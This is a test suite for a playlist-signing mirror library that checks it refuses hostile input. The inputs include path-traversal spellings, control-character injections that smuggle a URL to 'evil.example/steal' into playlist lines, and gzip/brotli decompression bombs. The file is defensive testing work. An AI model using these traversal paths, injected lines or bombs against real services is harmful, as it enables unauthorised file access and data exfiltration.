// The mirror under hostile input, on every host and every origin kind: request paths in every
// spelling that could name another course's playlist, playlist text with control characters,
// origin bodies that are too large once decoded or never end, and sources that would render huge.
import t, { type Test } from 'tap'
import { mkdirSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { Readable } from 'node:stream'
import { pipeline } from 'node:stream/promises'
import { constants as zlib, createBrotliCompress, createGzip } from 'node:zlib'
import { createVerifier } from '../../src/index.js'
import { expressCloudfrontCookies } from '../../src/express/index.js'
import { rsaKey } from '../helpers/keys.js'
import { DISTRIBUTION } from '../helpers/cookies.js'
import { tempDir } from '../edge/helpers.js'
import { playlistHosts, playlistOptions, rawRequest, serve, startWith } from './apps.js'

const COURSE_42 = '#EXTM3U\n#EXT-X-TARGETDURATION:4\n#EXTINF:4,\nseg-42.ts\n#EXT-X-ENDLIST\n'
const COURSE_43 = '#EXTM3U\n#EXT-X-TARGETDURATION:4\n#EXTINF:4,\nsecret-43-lesson.ts\n#EXT-X-ENDLIST\n'
const FILES: Record<string, string> = {
  '/courses/42/master.m3u8': COURSE_42,
  '/courses/42/a b.m3u8': COURSE_42,
  '/courses/42/..a.m3u8': COURSE_42,
  '/courses/43/master.m3u8': COURSE_43
}

const root = tempDir(t, 'cf-hostile-')
for (const [path, text] of Object.entries(FILES)) {
  mkdirSync(join(root, ...path.split('/').slice(1, -1)), { recursive: true })
  writeFileSync(join(root, ...path.split('/').slice(1)), text)
}

const verifier = createVerifier({ keys: { [rsaKey.keyPairId]: rsaKey.publicKey }, cacheSize: 0 })

/** Where each origin kind was asked: the raw paths (a folder, an HTTP server, a function). */
interface Origin {
  name: string
  asked: string[]
  playlists: (t: Test) => Promise<Record<string, unknown>>
}

// The HTTP origin and the function resolve dot segments and decode escapes, as S3 and most file
// servers do: whatever reaches them is read the way an attacker hopes.
const origins: Origin[] = [
  { name: 'root', asked: [], playlists: async () => ({ origin: { root } }) },
  {
    name: 'url',
    asked: [],
    async playlists (t) {
      const url = await serve(t, (req, res) => {
        this.asked.push(req.url as string)
        const text = FILES[decodeURIComponent(new URL(req.url as string, 'http://x').pathname)]
        res.statusCode = text === undefined ? 404 : 200
        res.end(text)
      })
      return { origin: { url } }
    }
  },
  {
    name: 'load',
    asked: [],
    async playlists () {
      return { origin: { load: (cdnPath: string) => { this.asked.push(cdnPath); return FILES[decodeURIComponent(new URL(cdnPath, 'http://x').pathname)] ?? null } } }
    }
  }
]

const HOSTILE_PATHS = [
  '/hls/courses/42/%2e%2e/43/master.m3u8',
  '/hls/courses/42/../43/master.m3u8',
  '/hls/courses/42/.%2e/43/master.m3u8',
  '/hls/courses/42/%2e./43/master.m3u8',
  '/hls/courses/42/%2E%2E/43/master.m3u8',
  '/hls/courses/42/..\\43/master.m3u8',
  '/hls/courses/42/..%5c43/master.m3u8',
  '/hls/courses/42/..%5C43/master.m3u8',
  '/hls/courses/42/..%2f43/master.m3u8',
  '/hls/courses/42/%2e%2e%2F43/master.m3u8',
  '/hls/courses/42/x%23/../../43/master.m3u8',
  '/hls/courses/42/x#/../../43/master.m3u8',
  '/hls/courses/42/./master.m3u8',
  '/hls/courses/42/%2e/master.m3u8',
  '/hls/courses/42/a\\b.m3u8',
  '/hls/courses/42/a#b.m3u8',
  '/hls/courses/42/master.m3u8%00',
  '/hls/courses/42/a%0d%0a.m3u8',
  '/hls/courses/42/a%09.m3u8',
  '/hls/courses/42/a%7f.m3u8',
  '/hls/courses/42/a%c2%85.m3u8',
  '/hls/courses/42/%zz.m3u8',
  '/hls/courses/42/%ff.m3u8',
  '/hls/courses/42/a"b.m3u8',
  '/hls/courses/42/a{b}.m3u8'
]

for (const host of playlistHosts) {
  t.test(host.name, async (t) => {
    for (const origin of origins) {
      t.test(`${origin.name} origin: a path that could name another file is a 400 before any lookup, origin request or signature`, async (t) => {
        const app = await startWith(host, t, playlistOptions(root, await origin.playlists(t)))
        for (const path of HOSTILE_PATHS) {
          origin.asked.length = 0
          const res = await rawRequest(app, path)
          t.equal(res.status, 400, `${path}: 400`)
          // Node's parser refuses some spellings itself (no JSON body); the mirror answers the rest.
          // Fastify's router refuses a broken escape itself (FST_ERR_BAD_URL), before any plugin.
          if (res.body.startsWith('{')) t.match(JSON.parse(res.body).code, /^(FST_ERR_CF_INVALID_PARAM|FST_ERR_BAD_URL)$/, `${path}: coded`)
          t.notMatch(res.body, /secret-43|playlistPath|Policy=/, `${path}: nothing of course 43, no internal option`)
          t.same(origin.asked, [], `${path}: the origin was not asked`)
        }
        t.equal(app.stats().signatures, 0, 'nothing signed')
        // Valid twins: the course's own playlist, an escaped space, a name that starts with two dots.
        for (const [path, cdnPath] of [
          ['/hls/courses/42/master.m3u8', '/courses/42/master.m3u8'],
          ['/hls/courses/42/a%20b.m3u8', '/courses/42/a%20b.m3u8'],
          ['/hls/courses/42/..a.m3u8', '/courses/42/..a.m3u8']
        ] as const) {
          origin.asked.length = 0
          const ok = await rawRequest(app, path)
          t.equal(ok.status, 200, `${path}: served`)
          t.match(ok.body, /seg-42\.ts\?Policy=/)
          if (origin.name !== 'root') t.same(origin.asked, [cdnPath], `${path}: the origin was asked for exactly the checked path`)
        }
      })
    }

    t.test('control characters in a playlist: refused with the line, the query never written', async (t) => {
      const sources: Record<string, string> = {
        'key-cr': '#EXTM3U\n#EXT-X-KEY:METHOD=AES-128,URI="key.bin?\rhttps://evil.example/steal?"\n#EXTINF:4,\na.ts\n',
        'segment-cr': '#EXTM3U\n#EXTINF:4,\nseg1.ts?\rhttps://evil.example/steal?\n',
        'segment-lf-in-key': '#EXTM3U\n#EXTINF:4,\na.ts\n#EXT-X-MAP:URI="init.mp4?\u2028https://evil.example/steal?"\n',
        u2028: '#EXTM3U\n#EXTINF:4,\nseg1.ts?\u2028https://evil.example/steal?\n',
        u2029: '#EXTM3U\n#EXTINF:4,\nseg1.ts?\u2029https://evil.example/steal?\n',
        nel: '#EXTM3U\n#EXTINF:4,\nseg1.ts?\u0085https://evil.example/steal?\n',
        tab: '#EXTM3U\n#EXTINF:4,\nseg1.ts?\thttps://evil.example/steal?\n',
        vt: '#EXTM3U\n#EXTINF:4,\nseg1.ts?\u000bhttps://evil.example/steal?\n',
        ff: '#EXTM3U\n#EXTINF:4,\nseg1.ts?\u000chttps://evil.example/steal?\n',
        del: '#EXTM3U\n#EXTINF:4,\nseg1\u007f.ts\n',
        esc: '#EXTM3U\n#EXTINF:4,\nseg1\u001b.ts\n',
        'lone-cr-at-end': '#EXTM3U\n#EXTINF:4,\nseg1.ts\r',
        'comment-cr': '#EXTM3U\n# note\rhttps://evil.example/steal?\n#EXTINF:4,\nseg1.ts\n'
      }
      const load = (cdnPath: string): string | null => {
        const name = cdnPath.slice('/courses/42/'.length, -'.m3u8'.length)
        return name === 'crlf' ? '#EXTM3U\r\n#EXTINF:4,\r\nseg1.ts\r\n' : sources[name] ?? null
      }
      for (const variables of [false, true]) {
        const app = await startWith(host, t, playlistOptions(root, { origin: { load }, variables }))
        for (const name of Object.keys(sources)) {
          const res = await app.get(`/hls/courses/42/${name}.m3u8`, { 'x-user': 'alice' })
          const body = res.body.toString()
          t.equal(res.status, 502, `${name} (variables ${String(variables)}): 502`)
          t.equal(JSON.parse(body).code, 'FST_ERR_CF_INVALID_PLAYLIST')
          t.match(JSON.parse(body).message, /line \d+: the line holds the control character U\+00[0-9A-F]{2}|line \d+: the line holds the control character U\+202[89]/)
          t.notMatch(body, /Policy=|Signature=/)
        }
        const twin = await app.get('/hls/courses/42/crlf.m3u8', { 'x-user': 'alice' })
        t.equal(twin.status, 200, 'CRLF line endings are line endings')
      }
    })

    t.test('the playlist\'s own variable references are kept as written and substitute to a signed URL', async (t) => {
      const own = '#EXTM3U\n#EXT-X-VERSION:8\n#EXT-X-DEFINE:NAME="base",VALUE="seg"\n#EXTINF:4,\n{$base}1.ts\n'
      const app = await startWith(host, t, playlistOptions(root, {
        origin: { load: (p: string) => p.endsWith('own.m3u8') ? own : p.endsWith('undefined.m3u8') ? '#EXTM3U\n#EXTINF:4,\n{$nope}1.ts\n' : null }
      }))
      const res = await app.get('/hls/courses/42/own.m3u8', { 'x-user': 'alice' })
      t.equal(res.status, 200)
      const line = res.body.toString().split('\n')[4] as string
      t.match(line, /^https:\/\/media\.example\.com\/courses\/42\/\{\$base\}1\.ts\?Policy=/, 'the reference stays for the player')
      t.ok(verifier.verify({ url: line.replace('{$base}', 'seg'), cookieHeader: undefined, clientIp: undefined }).ok, 'substituted, a URL CloudFront accepts')
      const undef = await app.get('/hls/courses/42/undefined.m3u8', { 'x-user': 'alice' })
      t.equal(undef.status, 502)
      t.match(JSON.parse(undef.body.toString()).message, /line 3: .*\{\$nope\}/)
    })

    t.test('origin bodies are bounded while read: compressed bombs, an endless body, a slow drip, a silent origin', async (t) => {
      const state = { generated: 0, finished: false }
      // Endless input, produced only as fast as the client reads: `finished` tells whether it was read to the end.
      const endless = (total: number, byte: number): Readable => {
        const chunk = Buffer.alloc(64 * 1024, byte)
        let left = total
        return new Readable({
          read () {
            if (left <= 0) {
              state.finished = true
              this.push(null)
              return
            }
            left -= chunk.length
            state.generated += chunk.length
            this.push(chunk)
          }
        })
      }
      const GiB = 1024 * 1024 * 1024
      const url = await serve(t, (req, res) => {
        const name = (req.url as string).split('/').pop()
        const head = Readable.from([Buffer.from('#EXTM3U\n#')])
        if (name === 'gzip.m3u8') {
          res.writeHead(200, { 'content-encoding': 'gzip' })
          pipeline(endless(2 * GiB, 35), createGzip({ level: 1 }), res).catch(() => {})
        } else if (name === 'br.m3u8') {
          res.writeHead(200, { 'content-encoding': 'br' })
          pipeline(endless(2 * GiB, 35), createBrotliCompress({ params: { [zlib.BROTLI_PARAM_QUALITY]: 1 } }), res).catch(() => {})
        } else if (name === 'chunked.m3u8') {
          res.writeHead(200)
          head.pipe(res, { end: false })
          pipeline(endless(256 * 1024 * 1024, 35), res).catch(() => {})
        } else if (name === 'drip.m3u8') {
          res.writeHead(200)
          res.write('#EXTM3U\n')
          const timer = setInterval(() => res.write('#'), 50)
          res.on('close', () => clearInterval(timer))
        } else if (name === 'silent.m3u8') {
          // Never answers.
        } else {
          res.writeHead(200, { 'content-type': 'application/vnd.apple.mpegurl' })
          res.end(COURSE_42)
        }
      })
      const app = await startWith(host, t, playlistOptions(root, { origin: { url }, maxBytes: 1024 * 1024, timeout: 1000 }))
      for (const [name, message] of [
        ['gzip', /larger than 1048576 bytes/], ['br', /larger than 1048576 bytes/], ['chunked', /larger than 1048576 bytes/],
        ['drip', /did not answer in time/], ['silent', /did not answer in time/]
      ] as const) {
        state.finished = false
        const res = await app.get(`/hls/courses/42/${name}.m3u8`, { 'x-user': 'alice', 'accept-encoding': 'gzip, br' })
        t.equal(res.status, 502, `${name}: 502`)
        const body = JSON.parse(res.body.toString())
        t.equal(body.code, 'FST_ERR_CF_PLAYLIST_ORIGIN', `${name}: coded`)
        t.match(body.message, message)
        t.equal(body.error, 'Bad Gateway', `${name}: answered by the adapter, one line of JSON`)
        t.notMatch(res.body.toString(), /\n|at .*\.ts:\d+/, 'no stack')
        t.notOk(state.finished, `${name}: the origin's body was not read to its end`)
      }
      const twin = await app.get('/hls/courses/42/master.m3u8', { 'x-user': 'alice', 'accept-encoding': 'gzip, br' })
      t.equal(twin.status, 200, 'a playlist under the bound is served')
      t.equal(app.stats().signatures, 1)
    })

    t.test('a load function that never settles: 502 at the timeout, and the next request is not held by it', async (t) => {
      let calls = 0
      const app = await startWith(host, t, playlistOptions(root, { origin: { load: () => { calls++; return new Promise(() => {}) } }, timeout: 300 }))
      for (let i = 0; i < 2; i++) {
        const res = await app.get('/hls/courses/42/stuck.m3u8', { 'x-user': 'alice' })
        t.equal(res.status, 502)
        t.equal(JSON.parse(res.body.toString()).code, 'FST_ERR_CF_PLAYLIST_ORIGIN')
        t.match(JSON.parse(res.body.toString()).message, /did not answer in time/)
      }
      t.equal(calls, 2, 'asked again once the first load timed out')
    })

    t.test('loads at once are bounded (503 past maxLoads); a load\'s Buffer is sized before it becomes text', async (t) => {
      const waiting: Array<() => void> = []
      const app = await startWith(host, t, playlistOptions(root, {
        maxLoads: 2,
        origin: {
          load: (p: string) => p.endsWith('huge.m3u8')
            ? Buffer.alloc(5 * 1024 * 1024, 35)
            : new Promise<string>((resolve) => waiting.push(() => resolve(COURSE_42)))
        }
      }))
      const held = [app.get('/hls/courses/42/a.m3u8', { 'x-user': 'alice' }), app.get('/hls/courses/42/b.m3u8', { 'x-user': 'alice' })]
      while (waiting.length < 2) await new Promise((resolve) => setTimeout(resolve, 10))
      const busy = await app.get('/hls/courses/42/c.m3u8', { 'x-user': 'alice' })
      t.equal(busy.status, 503)
      t.equal(JSON.parse(busy.body.toString()).code, 'FST_ERR_CF_PLAYLIST_BUSY')
      const shared = app.get('/hls/courses/42/a.m3u8', { 'x-user': 'alice' })
      for (const release of waiting) release()
      for (const res of [...await Promise.all(held), await shared]) t.equal(res.status, 200, 'a playlist being loaded is shared, not refused')
      const huge = await app.get('/hls/courses/42/huge.m3u8', { 'x-user': 'alice' })
      t.equal(huge.status, 502)
      t.match(JSON.parse(huge.body.toString()).message, /larger than 4194304 bytes/)
    })

    t.test('sources that would render huge: refused (502) before the work, not rendered on every request', async (t) => {
      const oneLetter = '#EXTM3U\n' + 'a\n'.repeat(512 * 1024)
      let many = '#EXTM3U\n'
      for (let i = 0; i < 3000; i++) many += `#EXTINF:2,\nseg-${i}.ts\n`
      const sources: Record<string, string> = { 'one-letter': oneLetter, many }
      const load = (p: string): string | null => sources[p.slice('/courses/42/'.length, -'.m3u8'.length)] ?? null
      const app = await startWith(host, t, playlistOptions(root, { origin: { load }, maxBytes: 2 * 1024 * 1024, maxRenderedBytes: 1024 * 1024 }))
      const huge = await app.get('/hls/courses/42/one-letter.m3u8', { 'x-user': 'alice' })
      t.equal(huge.status, 502)
      t.equal(JSON.parse(huge.body.toString()).code, 'FST_ERR_CF_PLAYLIST_TOO_LARGE')
      t.match(JSON.parse(huge.body.toString()).message, /more than 10000 URIs \(playlists\.maxUris\)/)
      const big = await app.get('/hls/courses/42/many.m3u8', { 'x-user': 'alice' })
      t.equal(big.status, 502)
      t.match(JSON.parse(big.body.toString()).message, /would be \d+ bytes rewritten, more than 1048576 \(playlists\.maxRenderedBytes\)/)
      // Valid twin: the same playlist fits a larger bound.
      const roomy = await startWith(host, t, playlistOptions(root, { origin: { load }, maxRenderedBytes: 4 * 1024 * 1024 }))
      t.equal((await roomy.get('/hls/courses/42/many.m3u8', { 'x-user': 'alice' })).status, 200)
      const fewer = await startWith(host, t, playlistOptions(root, { origin: { load }, maxBytes: 2 * 1024 * 1024, maxUris: 2000 }))
      t.match(JSON.parse((await fewer.get('/hls/courses/42/many.m3u8', { 'x-user': 'alice' })).body.toString()).message, /more than 2000 URIs/)
    })
  })
}

t.test('maxRenderedBytes cannot exceed the response cache (a rendering it cannot keep would be redone per request)', async (t) => {
  t.throws(() => expressCloudfrontCookies(playlistOptions(root, { maxRenderedBytes: 65 * 1024 * 1024 })), { code: 'FST_ERR_CF_INVALID_OPTION', message: /playlists\.maxRenderedBytes.*responseCacheBytes/ })
  t.throws(() => expressCloudfrontCookies(playlistOptions(root, { maxUris: 0 })), { code: 'FST_ERR_CF_INVALID_OPTION', message: /playlists\.maxUris/ })
  t.doesNotThrow(() => expressCloudfrontCookies(playlistOptions(root, { maxRenderedBytes: 1024, responseCacheBytes: 2048 })))
  t.equal(DISTRIBUTION, 'https://media.example.com')
})
